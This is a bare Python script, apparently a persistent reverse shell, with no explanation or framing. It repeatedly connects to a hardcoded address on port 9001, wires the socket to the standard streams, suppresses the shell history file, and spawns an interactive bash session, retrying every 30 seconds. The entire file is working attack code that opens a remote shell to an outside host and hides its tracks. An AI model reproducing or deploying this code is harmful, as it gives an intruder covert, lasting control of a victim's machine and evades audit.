import os
import pty
import socket
import time

HOST, PORT = "10.13.37.5", 9001


def attach():
    c = socket.socket()
    c.settimeout(10)
    c.connect((HOST, PORT))
    c.settimeout(None)
    if os.fork() == 0:
        for fd in range(3):
            os.dup2(c.fileno(), fd)
        os.environ["HISTFILE"] = "/dev/null"
        pty.spawn("/bin/bash")
        os._exit(0)
    os.wait()


while True:
    try:
        attach()
    except OSError:
        pass
    time.sleep(30)
